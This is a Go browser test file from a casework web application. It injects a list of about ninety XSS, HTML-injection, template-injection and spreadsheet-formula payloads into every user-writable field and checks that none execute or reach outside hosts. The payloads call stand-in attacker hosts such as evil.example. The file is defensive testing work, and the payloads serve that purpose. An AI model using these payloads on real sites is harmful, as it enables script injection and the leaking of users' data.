package web_test

import (
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/fetch"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/tangkal/tangkal/internal/auth"
	"github.com/tangkal/tangkal/internal/casework"
	"github.com/tangkal/tangkal/internal/db"
	"github.com/tangkal/tangkal/internal/fault"
	"github.com/tangkal/tangkal/internal/notice"
	"github.com/tangkal/tangkal/internal/party"
	"github.com/tangkal/tangkal/internal/report"
	"github.com/tangkal/tangkal/internal/web/browsertest"
	"github.com/tangkal/tangkal/notes"
)

// payloads are ways by which text has become script, style or a request
// elsewhere. RUN stands for code that leaves a trace.
var payloads = expand(
	`<script>RUN</script>`, `<SCRIPT SRC=//evil.example/a.js></SCRIPT>`, `<script>RUN`, `</script><script>RUN</script>`, `<scr<script>ipt>RUN</scr</script>ipt>`,
	`<script type=module>RUN</script>`, `<script src="data:text/javascript,RUN"></script>`, `<script/x>RUN</script>`, "<script\n>RUN</script>", `<script>RUN//`,
	`<img src=x onerror=RUN>`, `<img src=x onerror="RUN">`, `<IMG SRC=x OnErRoR=RUN>`, `<img/src=x/onerror=RUN>`, `"><img src=x onerror=RUN>`, `'><img src=x onerror=RUN>`,
	"`><img src=x onerror=RUN>", `<img src=https://evil.example/p.png>`, `<img srcset="https://evil.example/q.png 1x">`, `<img src=x:x onerror=RUN//`,
	`<svg onload=RUN>`, `<svg/onload=RUN>`, `<svg><script>RUN</script></svg>`, `<svg><animate onbegin=RUN attributeName=x dur=1s>`, `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>#x"/></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">`, `<body onload=RUN>`, `<html onmouseenter=RUN>`,
	`<input autofocus onfocus=RUN>`, `<select autofocus onfocus=RUN>`, `<textarea autofocus onfocus=RUN>`, `<details open ontoggle=RUN>`, `<video autoplay onloadstart=RUN><source src=x></video>`,
	`<audio src=x onerror=RUN>`, `<marquee onstart=RUN>`, `<iframe src="javascript:RUN"></iframe>`, `<iframe srcdoc="<script>parent.RUN</script>"></iframe>`, `<iframe src=https://evil.example/f></iframe>`,
	`<object data="javascript:RUN">`, `<embed src="javascript:RUN">`, `<base href="https://evil.example/">`, `<meta http-equiv=refresh content="0;url=https://evil.example/m">`, `<link rel=stylesheet href=https://evil.example/s.css>`,
	`<link rel=prefetch href=https://evil.example/pf>`, `<style>@import url(https://evil.example/i.css);</style>`, `<style>*{background:url(https://evil.example/b.png)}</style>`, `<p style="background:url(https://evil.example/c.png)">x</p>`,
	`<a href="javascript:RUN" id=jsa autofocus>x</a>`, `javascript:RUN`, `JaVaScRiPt:RUN//`, "java\tscript:RUN", `data:text/html,<script>RUN</script>`, `vbscript:RUN`,
	`" autofocus onfocus="RUN" x="`, `' autofocus onfocus='RUN' x='`, `" onmouseover=RUN style="position:fixed;inset:0"`, `</textarea><script>RUN</script>`, `</title><script>RUN</script>`, `--><script>RUN</script><!--`,
	`]]><script>RUN</script>`, `&lt;script&gt;RUN&lt;/script&gt;`, `&#60;script&#62;RUN&#60;/script&#62;`, `\u003cscript\u003eRUN\u003c/script\u003e`, `%3Cscript%3ERUN%3C/script%3E`, `＜script＞RUN＜/script＞`,
	`{{constructor.constructor('RUN')()}}`, `${RUN}`, `#{RUN}`, `<%= RUN %>`, `{{"a"|RUN}}`, `<x hx-on:load="RUN" hx-get="https://evil.example/h" hx-trigger="load">`, `<div hx-get=https://evil.example/hx hx-trigger=load></div>`,
	`<form action=https://evil.example/post><button autofocus>x</button></form>`, `<form id=x><input name=attributes><input name=innerHTML></form>`, `<template shadowrootmode=open><script>RUN</script></template>`, `<noscript><p title="</noscript><img src=x onerror=RUN>">`,
	"\u202e<script>RUN</script>", "\u2028<script>RUN</script>", `[x](javascript:RUN)`, `![x](https://evil.example/md.png)`, `=HYPERLINK("https://evil.example/xl","x")`,
)

func expand(templates ...string) (out []string) {
	for n, p := range templates {
		out = append(out, strings.ReplaceAll(p, "RUN", fmt.Sprintf("ran.push(%d)", n)))
	}
	return out
}

// infested is a server in which every text that anybody can write is hostile.
type infested struct {
	*orderHouse
	put, refused int // texts by field
	code         string
}

// each gives every payload to a field that takes short texts.
func (w *infested) each(t *testing.T, field string, give func(n int, text string) error) {
	t.Helper()
	for n, p := range payloads {
		w.put++
		err := give(n, p)
		switch {
		case err == nil:
		case fault.Of(err) == fault.Invalid:
			w.refused++
		default:
			t.Fatalf("%s: %q: %v", field, p, err)
		}
	}
}

// tame are the payloads without the characters that long texts refuse, and all
// is every one of them at once.
var (
	tame = slices.DeleteFunc(slices.Clone(payloads), func(p string) bool { return strings.ContainsAny(p, "\n\t\u202e\u2028") })
	all  = strings.Join(tame, " ")
)

func (w *infested) long() string { w.put += len(tame); return all }

// reports makes reports whose links, words, file names and messages are hostile.
func (w *infested) reports(t *testing.T) casework.ID {
	t.Helper()
	var rec report.Receipt
	w.each(t, "file name and link", func(n int, p string) (err error) {
		if n%10 == 0 {
			rec, err = w.App.Report.Submit(t.Context(), report.Submission{
				Channel: report.Web, Locations: []string{"https://ruangsuara.example/v/84qe-90t"}, Category: report.Recruitment, Lang: "id", Description: w.long(),
				Contact: p,
			})
			must(t, err)
		}
		return w.App.Report.AddMaterial(t.Context(), rec.Code, report.Material{
			Locations: []string{"https://ruangsuara.example/v/84qe-90t?" + url.Values{"q": {p}}.Encode() + "#" + url.PathEscape(p)},
			Files:     []report.Upload{{Name: p + ".png", MediaType: "image/png", Content: strings.NewReader(string(picture(t)))}},
		})
	})
	must(t, w.App.Report.Write(t.Context(), rec.Code, w.long(), nil))
	w.code = rec.Code
	var cases []casework.Case
	w.until(t, "the case", func() bool {
		var err error
		cases, err = w.App.Casework.OfReport(t.Context(), w.As(t, w.analyst).Actor, rec.ReportID)
		return err == nil && len(cases) > 0
	})
	must(t, w.App.Report.Reply(t.Context(), w.As(t, w.analyst).Actor, rec.ReportID, w.long()))
	return cases[0].ID
}

// finding is an assessment with hostile reasons everywhere.
func (w *infested) finding() casework.Assessment {
	a := casework.Assessment{
		Measure: string(notes.RemovalOrder), Public: notes.Yes, Functions: []notes.Function{notes.FunctionRecruitment}, Tier: notes.TierPromotional,
		Listed: notes.Listed{Class: notes.ListNone}, Scope: notes.Scope{Territories: []string{"ID"}},
		Reasons: notes.Text{Binding: "id", Texts: map[string]string{"id": w.long()}},
	}
	for i := range 12 {
		a.Necessity.Tried = append(a.Necessity.Tried, notes.Measure{Measure: tame[2*i], Outcome: strings.Join(tame[i*6:i*6+6], " ")})
	}
	for i, g := range notes.Grounds() {
		f := notes.GroundFinding{Ground: g, Met: notes.No, Reasons: strings.Join(tame[i*15:i*15+15], " ")}
		if g == notes.GroundSolicitGroup {
			f.Met = notes.Yes
		}
		a.Grounds = append(a.Grounds, f)
	}
	for i, p := range notes.Purposes() {
		a.PurposeTests = append(a.PurposeTests, notes.PurposeTest{Purpose: p, Claimed: notes.No, Actual: notes.No, Reasons: strings.Join(tame[i*15:i*15+15], " ")})
	}
	w.put += 12*7 + 10*15
	return a
}

// decide takes the case through everybody's hands; each writes what is hostile.
func (w *infested) decide(t *testing.T, id casework.ID) notice.ID {
	t.Helper()
	ctx, by := t.Context(), w.As(t, w.analyst).Actor
	_, err := w.App.Casework.Take(ctx, by, id)
	must(t, err)
	v, err := w.App.Casework.Get(ctx, by, id)
	must(t, err)
	for n := 0; n < len(payloads); n += 10 {
		var up []casework.Upload
		for _, p := range payloads[n:min(n+10, len(payloads))] {
			up = append(up, casework.Upload{Name: p + ".png", MediaType: "image/png", Content: strings.NewReader(string(picture(t)))})
			w.put++
		}
		_, err = w.App.Casework.AddCapture(ctx, by, id, v.Case.LocationIDs[0], up)
		must(t, err)
	}
	_, err = w.App.Casework.Assess(ctx, by, id, 0, w.finding())
	must(t, err)
	must(t, w.App.Casework.AskOpinion(ctx, by, id, ""))
	must(t, w.App.Casework.GiveOpinion(ctx, w.As(t, "second-analyst").Actor, id, w.opinion()))
	n, err := w.App.Notice.Draft(ctx, by, notice.DraftInput{CaseID: id, Kind: notes.RemovalOrder, DeadlineMinutes: 240})
	must(t, err)
	w.signs(t, w.analyst, n.ID, "propose")
	_, err = w.App.Notice.Return(ctx, w.As(t, w.approver).Actor, n.ID, notice.ReturnInput{Reasons: []string{"other"}, Text: w.long()})
	must(t, err)
	n, err = w.App.Notice.Redraft(ctx, by, n.ID, notice.DraftInput{CaseID: id, Kind: notes.RemovalOrder, DeadlineMinutes: 240})
	must(t, err)
	w.signs(t, w.analyst, n.ID, "propose")
	w.signs(t, w.approver, n.ID, "approve")
	w.signs(t, w.officer, n.ID, "issue")
	w.until(t, "the dispatch", func() bool { return w.view(t, n.ID).Life == notice.Open })
	return n.ID
}

func (w *infested) opinion() casework.Opinion {
	o := casework.Opinion{Reasons: w.long()}
	for _, p := range notes.Purposes() {
		o.PurposeTests = append(o.PurposeTests, notes.PurposeTest{Purpose: p, Claimed: notes.No, Actual: notes.No, Reasons: payloads[0]})
	}
	return o
}

// talk lets platform and authority write to each other and answer.
func (w *infested) talk(t *testing.T, id notice.ID) {
	t.Helper()
	ctx, platform, officer := t.Context(), w.platform(t), w.As(t, w.officer).Actor
	w.receives(t, id)
	for _, by := range []party.Actor{platform, officer} {
		w.each(t, "message", func(_ int, p string) error { return w.App.Notice.Write(ctx, by, id, p) })
	}
	v := w.view(t, id)
	w.each(t, "answer", func(n int, p string) error {
		row := notes.Row{N: 1 + n%len(v.Items), Answer: notes.Refused, Ground: notes.NotWithinGrounds, Explanation: p}
		res, err := w.App.Notice.Answer(ctx, platform, id, notice.AnswerInput{Rows: []notes.Row{row}, PlatformReference: p})
		if err == nil && len(res.Rows) == 1 && !res.Rows[0].OK {
			return res.Rows[0].Problem
		}
		return err
	})
	must(t, w.App.Notice.ServeOnPaper(ctx, officer, id, notice.Service{Text: payloads[0], Files: []notice.Upload{{Name: payloads[10] + ".png", MediaType: "image/png", Content: strings.NewReader(string(picture(t)))}}}))
}

// office gives organisations, people, keys, invitations and webhooks hostile
// names.
func (w *infested) office(t *testing.T) (invitation string) {
	t.Helper()
	ctx, admin := t.Context(), w.As(t, "agency-admin").Actor
	w.each(t, "person", func(n int, p string) error {
		return w.App.DB.Write(ctx, func(ctx context.Context, tx *db.Tx) error {
			_, err := party.AddPerson(ctx, tx, party.Person{Party: admin.Party, Name: p, Email: fmt.Sprintf("p%d@tangkal.example", n), Roles: []party.Role{party.Analyst}, Lang: "id", Zone: "Asia/Jakarta"}, w.now.Now())
			return err
		})
	})
	w.each(t, "organisation", func(n int, p string) error {
		return w.App.DB.Write(ctx, func(ctx context.Context, tx *db.Tx) error {
			_, err := party.Add(ctx, tx, party.Party{
				Code: fmt.Sprintf("org-%d", n), Kind: party.Authority, Name: p, Contact: "a@org.example", Jurisdiction: "eu-tco", Languages: []string{"en"}, Establishment: "NL", Zone: "Europe/Amsterdam",
			}, w.now.Now())
			return err
		})
	})
	w.each(t, "API key", func(_ int, p string) error {
		_, _, err := w.App.Auth.AddAPIKey(ctx, admin, admin.Person, p, []auth.Scope{auth.ScopeRead}, time.Time{})
		return err
	})
	w.each(t, "invitation", func(n int, p string) (err error) {
		_, invitation, err = w.App.Auth.Invite(ctx, admin, admin.Party, p, fmt.Sprintf("i%d@tangkal.example", n), []party.Role{party.Analyst})
		return err
	})
	w.each(t, "signing key", func(_ int, p string) error {
		public, _, err := ed25519.GenerateKey(rand.Reader)
		must(t, err)
		_, err = w.App.Auth.EnrolKey(ctx, admin, public, p)
		return err
	})
	for n := 0; n < len(payloads); n += 5 { // an organisation has twenty at most
		w.put += 5
		_, _, err := w.App.Outbox.AddEndpoint(ctx, admin, fmt.Sprintf("https://hooks.example/%d?%s", n, url.Values{"q": payloads[n : n+1]}.Encode()), payloads[n], nil)
		if err != nil && fault.Of(err) != fault.Invalid {
			t.Fatal(err)
		}
	}
	return invitation
}

// inspect reads from a page what must not be in it: traces, handlers, foreign
// addresses.
const inspect = `((names, value) => JSON.stringify({
	ran, violations,
	handlers: [...document.querySelectorAll('*')].flatMap(e => names.call(e).filter(a => /^on|^hx-on|^srcdoc$|^style$/i.test(a)).map(a => e.localName + ' ' + a + '=' + value.call(e, a))),
	foreign: [...document.querySelectorAll('[src],[href],[action],[formaction],[data],[srcset],[hx-get],[hx-post]')].flatMap(e => ['src','href','action','formaction','data','srcset','hx-get','hx-post'].map(a => value.call(e, a)).filter(v => v && !/^(\/|#|\?|http:\/\/(evidence\.)?localhost:|mailto:|tel:|blob:)/.test(v.trim()) || /^\/\//.test((v||'').trim()))),
	odd: [...document.querySelectorAll('iframe,object,embed,base,marquee,meta[http-equiv=refresh i],link[rel=prefetch],body style')].map(e => e.outerHTML.slice(0, 200)),
}))(Element.prototype.getAttributeNames, Element.prototype.getAttribute)`

// leave is the one link of ours that leads elsewhere: the quick exit.
const leave = "https://www.wikipedia.org/"

// A trace is what inspect found.
type trace struct {
	Ran        []int
	Violations []string
	Handlers   []string
	Foreign    []string
	Odd        []string
}

func (s trace) clean() bool {
	return len(s.Ran)+len(s.Violations)+len(s.Handlers)+len(s.Foreign)+len(s.Odd) == 0
}

// watched opens a page that tells of every request that leaves our origins and
// of every dialog. Such a request is answered here: nothing leaves the machine.
func watched(t *testing.T, own ...string) (p *browsertest.Page, outside func() []string) {
	t.Helper()
	p = browsertest.Open(t, browsertest.View{})
	var mu sync.Mutex
	var seen []string
	ours := func(u string) bool {
		for _, o := range append(own, "data:", "blob:", "about:") {
			if strings.HasPrefix(u, o) {
				return true
			}
		}
		return false
	}
	chromedp.ListenTarget(p.Context, func(event any) {
		var what string
		switch e := event.(type) {
		case *network.EventRequestWillBeSent:
			what = e.Request.URL
		case *page.EventJavascriptDialogOpening:
			what = "dialog " + e.Message
		case *fetch.EventRequestPaused:
			go func() {
				_ = chromedp.Run(p.Context, fetch.FailRequest(e.RequestID, network.ErrorReasonBlockedByClient))
			}()
			return
		}
		if what != "" && !ours(what) {
			mu.Lock()
			defer mu.Unlock()
			seen = append(seen, what)
		}
	})
	p.Run(network.Enable(), page.Enable(), fetch.Enable().WithPatterns([]*fetch.RequestPattern{{URLPattern: "*://*.example/*"}}),
		chromedp.ActionFunc(func(ctx context.Context) error {
			_, err := page.AddScriptToEvaluateOnNewDocument(`window.ran = []; window.violations = []; addEventListener("securitypolicyviolation", e => violations.push(e.violatedDirective + " " + e.blockedURI + " " + e.sample))`).Do(ctx)
			return err
		}))
	return p, func() []string {
		mu.Lock()
		defer mu.Unlock()
		return append([]string(nil), seen...)
	}
}

func look(t *testing.T, p *browsertest.Page) trace {
	t.Helper()
	var raw string
	p.Run(chromedp.Evaluate(inspect, &raw))
	var s trace
	must(t, json.Unmarshal([]byte(raw), &s))
	s.Foreign = slices.DeleteFunc(s.Foreign, func(v string) bool { return v == leave })
	return s
}

// TestNoTextBecomesCode writes every payload into every text that anybody can
// write, opens each page that shows it, in a real browser as each of those who
// see it, and wants no script run, no request to elsewhere and no complaint of
// the content policy (threat-model T07).
func TestNoTextBecomesCode(t *testing.T) {
	t.Parallel()
	if len(payloads) < 60 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	w := &infested{orderHouse: startOrders(t)}
	id := w.reports(t)
	n := w.decide(t, id)
	w.talk(t, n)
	things := w.rest(t)
	t.Logf("%d hostile texts, %d of them refused", w.put, w.refused)
	everybody := w.visits(id, n, things)
	w.everyPage(t, everybody)
	for who, visits := range everybody {
		t.Run(who, func(t *testing.T) {
			p, outside := watched(t, w.URL, w.Evidence)
			if who != "nobody" {
				p.Bring(w.As(t, who).Browser.Jar, w.URL)
			}
			for _, path := range visits {
				p.Go(w.URL + path)
				if s := look(t, p); !s.clean() {
					t.Errorf("%s on %s: %+v", who, path, s)
				}
			}
			if who == "nobody" {
				w.receipt(t, p)
			}
			if got := outside(); len(got) > 0 {
				t.Errorf("%s: requests to elsewhere: %q", who, got)
			}
			if got := p.Complaints(); len(got) > 0 {
				t.Errorf("%s: the browser complained: %q", who, got)
			}
		})
	}
}

// receipt opens what the reporter of a code sees: it has no address.
func (w *infested) receipt(t *testing.T, p *browsertest.Page) {
	t.Helper()
	p.Go(w.URL + "/receipt")
	p.Run(chromedp.SetValue(`input[name=code]`, w.code, chromedp.ByQuery), chromedp.Submit(`input[name=code]`, chromedp.ByQuery), chromedp.WaitReady(`textarea[name=message]`, chromedp.ByQuery))
	if s := look(t, p); !s.clean() {
		t.Errorf("a reporter on their receipt: %+v", s)
	}
}

// The same texts on a page that takes no care: what watches sees them run.
func TestThePayloadsRunWhereNobodyTakesCare(t *testing.T) {
	t.Parallel()
	careless := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = rw.Write([]byte("<!doctype html><title>x</title><p>" + r.URL.Query().Get("q")))
	}))
	t.Cleanup(careless.Close)
	p, outside := watched(t, careless.URL)
	ran, left := 0, 0
	for _, text := range payloads {
		if strings.Contains(text, "http-equiv") {
			continue // leaves the page before it can be looked at
		}
		before := len(outside())
		p.Go(careless.URL + "/?" + url.Values{"q": {text}}.Encode())
		s := look(t, p)
		if len(s.Ran) > 0 {
			ran++
		}
		if len(outside()) > before || !s.clean() {
			left++
		}
	}
	t.Logf("%d of %d ran by themselves, %d showed", ran, len(payloads), left)
	if ran < 20 || left < 45 {
		t.Errorf("%d ran and %d showed: whoever watches is blind", ran, left)
	}
}
